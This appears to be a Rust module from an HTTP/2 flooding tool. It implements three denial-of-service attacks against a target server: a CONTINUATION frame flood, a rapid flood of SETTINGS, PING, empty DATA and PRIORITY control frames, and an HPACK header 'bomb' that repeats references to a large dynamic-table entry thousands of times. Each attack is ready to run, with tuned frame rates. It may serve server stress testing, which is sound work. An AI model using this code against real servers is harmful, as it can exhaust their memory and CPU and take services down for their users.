//! Floods within an HTTP/2 connection that order nothing.

use std::io;

use super::{
    Aim, Tally, hpack,
    wire::{self, CONTINUATION, DATA, HEADERS, PING, PRIORITY, SETTINGS},
};

/// In each beat of 10 ms.
const EMPTY: u64 = 500;
const FULL: u64 = 4;
const CONTROL: u64 = 200;
/// References in a header section, to a field that is nearly as large as the dynamic table.
const REFERENCES: usize = 15_000;
const LARGE: usize = 3900;
/// Small fields in the other kind of bomb.
const CRUMBS: usize = 8000;

pub(super) async fn continuation(number: usize, aim: &Aim, tally: &Tally) -> io::Result<()> {
    let mut begin = wire::preface(&[], 0);
    let section = hpack::request("GET", &aim.target.h2.authority(), &aim.target.small);
    wire::frame(&mut begin, HEADERS, wire::END_STREAM, 1, &section);
    let mut full = Vec::new();
    while full.len() < 16_000 {
        hpack::literal(&mut full, b"x-more", &[b'y'; 200]);
    }
    wire::flood(aim, tally, begin, true, |out| {
        let (count, payload): (u64, &[u8]) =
            if number.is_multiple_of(2) { (FULL, &full) } else { (EMPTY, &[]) };
        for _ in 0..count {
            wire::frame(out, CONTINUATION, 0, 1, payload);
        }
        tally.add("frames", count);
    })
    .await
}

pub(super) async fn control(number: usize, aim: &Aim, tally: &Tally) -> io::Result<()> {
    let mut begin = wire::preface(&[], 0);
    // A body that goes on without a byte.
    let section = hpack::request("POST", &aim.target.h2.authority(), &aim.target.sink);
    wire::section(&mut begin, 1, false, &section);
    wire::flood(aim, tally, begin, number.is_multiple_of(2), |out| {
        for each in 0..CONTROL {
            match each % 4 {
                // The size of the header table, there and back.
                0 => {
                    let size = if each % 8 == 0 { 0 } else { 4096_u32 };
                    let setting = [&[0, 1], &size.to_be_bytes()[..]].concat();
                    wire::frame(out, SETTINGS, 0, 0, &setting);
                }
                1 => wire::frame(out, PING, 0, 0, &each.to_be_bytes()),
                2 => wire::frame(out, DATA, 0, 1, &[]),
                _ => wire::frame(out, PRIORITY, 0, 3, &[0, 0, 0, 1, 7]),
            }
        }
        tally.add("frames", CONTROL);
    })
    .await
}

pub(super) async fn bomb(number: usize, aim: &Aim, tally: &Tally) -> io::Result<()> {
    let request = hpack::request("GET", &aim.target.h2.authority(), &aim.target.small);
    let mut stream = 1;
    let mut beats = 0_u32;
    wire::flood(aim, tally, wire::preface(&[], 0), true, |out| {
        beats += 1;
        if beats % 10 != 1 {
            return;
        }
        let mut section = request.clone();
        if number.is_multiple_of(2) {
            hpack::kept(&mut section, b"x-bomb", &[b'b'; LARGE]);
            for _ in 0..REFERENCES {
                // The newest entry of the dynamic table.
                hpack::indexed(&mut section, 62);
            }
        } else {
            hpack::kept(&mut section, b"cookie", b"a=b");
            for _ in 0..CRUMBS {
                hpack::indexed(&mut section, 62);
            }
        }
        wire::section(out, stream, true, &section);
        stream += 2;
        tally.add("header sections", 1);
    })
    .await
}
